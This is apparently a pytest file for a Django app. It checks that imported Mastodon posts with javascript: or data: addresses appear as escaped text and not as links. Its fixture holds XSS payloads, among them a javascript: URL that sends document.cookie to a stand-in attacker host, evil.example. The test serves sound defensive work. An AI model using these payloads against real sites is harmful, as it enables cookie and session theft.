"""Only web addresses become links: an imported javascript: or data: address stays text."""

import json

import pytest
from django.urls import reverse

from houseboat.listening.imports import run_import
from tests.listening.samples import note_activity, outbox, write

pytestmark = pytest.mark.django_db

URL = reverse("listening:archive", kwargs={"team_slug": "team-a"})


def outbox_with_addresses(tmp_path):
    """An outbox whose posts name themselves with a script, a data address and the web."""
    posts = []
    for number, address in enumerate(
        [
            "javascript:fetch('https://evil.example/'+document.cookie)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            " JavaScript:alert(1)",
            "https://example.social/@ana/112000000000000004",
        ],
        1,
    ):
        activity = note_activity(f"11200000000000000{number}", f"<p>post {number}</p>")
        activity["object"]["url"] = address
        posts.append(activity)
    return write(tmp_path / "outbox.json", json.dumps(outbox(posts)).encode())


def test_an_imported_script_or_data_address_is_shown_as_text_not_a_link(
    as_victor, campaign_a, tmp_path
):
    run_import(campaign=campaign_a, format="mastodon-outbox", path=outbox_with_addresses(tmp_path))
    page = as_victor.get(URL, {"campaign": campaign_a.slug}).content.decode()
    assert 'href="javascript' not in page.lower()
    assert 'href="data:' not in page
    assert 'href=" javascript' not in page.lower()
    assert page.count("Original address (not a web link, shown as text)") == 3
    assert "javascript:fetch(&#x27;https://evil.example/&#x27;+document.cookie)" in page
    assert 'href="https://example.social/@ana/112000000000000004"' in page
